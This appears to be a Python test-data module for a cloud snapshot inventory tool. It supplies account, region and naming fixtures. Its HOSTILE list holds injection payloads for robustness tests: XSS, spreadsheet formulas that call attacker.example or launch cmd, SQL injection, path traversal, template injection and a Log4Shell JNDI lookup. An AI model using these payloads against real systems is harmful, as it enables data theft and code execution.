"""Names, sizes and hostile text that stories draw from."""

from __future__ import annotations

import random
from datetime import datetime

#: Accounts of the organisation in the order they come into being; the first one manages it.
ACCOUNTS = (
    ("management", "Root", "finance"),
    ("shared-images", "Infrastructure", "platform"),
    ("payments-prod", "Production", "payments"),
    ("platform", "Infrastructure", "platform"),
    ("web-staging", "Development", "web"),
    ("data-lake", "Production", "data"),
    ("web-prod", "Production", "web"),
    ("payments-dev", "Development", "payments"),
    ("security-audit", "Security", "security"),
    ("log-archive", "Security", "security"),
    ("ml-research", "Development", "data"),
    ("legacy-erp", "Production", "erp"),
    ("build", "Infrastructure", "platform"),
    ("disaster-recovery", "Infrastructure", "platform"),
)

#: Regions in the order they are planted; the fifth has no price in public tables.
REGIONS = ("us-east-1", "eu-west-1", "eu-central-1", "ap-southeast-2", "eu-south-1", "us-west-2", "eu-north-1")
#: Regions that must be opted in to.
OPT_IN = frozenset({"eu-south-1"})
#: A region that is never planted: what is copied from there, nobody can follow.
FAR = "ca-central-1"
#: Regions nobody opted in to.
NOT_OPTED_IN = ("af-south-1", "ap-east-1", "me-south-1")

SERVICES = ("ledger", "checkout", "search", "catalogue", "auth", "billing", "mail", "jenkins", "grafana", "warehouse")
ROLES = ("db", "app", "web", "worker", "cache", "queue", "batch")
DISTRIBUTIONS = ("al2023", "ubuntu-24.04", "ubuntu-22.04", "debian-12", "rocky-9")
RELEASES = ("1.4", "2.0", "2.7", "3.1", "4.12", "5.3")
#: Mailboxes of each team, before the at sign; the first is the team's own.
TEAMS = {
    "payments": ("payments", "payments", "ledger", "checkout"),
    "platform": ("platform", "platform", "sre", "build"),
    "web": ("web", "web", "storefront"),
    "data": ("data", "data", "analytics"),
    "finance": ("finance", "finance", "platform"),
    "security": ("security", "security", "compliance"),
    "erp": ("erp", "erp", "logistics"),
}
PEOPLE = ("anna", "bogdan", "chidi", "dana", "eero", "fatima")

#: Account ids outside the organisation, and what they are.
VENDOR = "999988887777"
FORMER_PARTNER = "888877776666"
#: One that a careful configuration trusts: ``[sharing] trusted_accounts``.
PARTNER = "777766665555"

#: Text that breaks careless readers. All of it is legal in XML 1.0, which is what EC2 answers in.
HOSTILE = (
    "<script>alert('snapshot')</script>",
    '=HYPERLINK("http://attacker.example/?x="&A1,"Invoice")',
    "+1-555+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x9b31mred\x9b0m",  # a one-character terminal escape; the two-character one is not legal in XML
    "\u202etxt.exe\u202c and \u05e9\u05dc\u05d5\u05dd",
    "first line\nsecond line\tafter a tab",
    "../../../../etc/passwd",
    "caf\u00e9 \U0001f9ca \U0001f469\u200d\U0001f680 na\u0308ive",
    "'; DROP TABLE snapshots; --",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://attacker.example}",
    '&lt;b&gt; &amp; ]]> "quoted" \\ backslash',
    "\x7f\x85\u2028line separator\u2029\ufeff",
    "x" * 255,
    "null",
    "-",
    "1e5",
    "\u0645\u0631\u062d\u0628\u0627 \u4e16\u754c",
)


def server(rng: random.Random) -> str:
    """A machine's name."""
    return f"{rng.choice(SERVICES)}-{rng.choice(ROLES)}-{rng.randrange(1, 30):02d}"


def image_name(rng: random.Random, what: str, made: datetime) -> str:
    """An image's name as pipelines make them: what it is, its system, its version and its day."""
    version = f"{rng.choice(RELEASES)}.{rng.randrange(200)}"
    return f"{what}-{rng.choice(DISTRIBUTIONS)}-v{version}-{made:%Y%m%d}-{rng.getrandbits(20):05x}"


def hostile(rng: random.Random) -> str:
    """A text that breaks careless readers."""
    return rng.choice(HOSTILE)
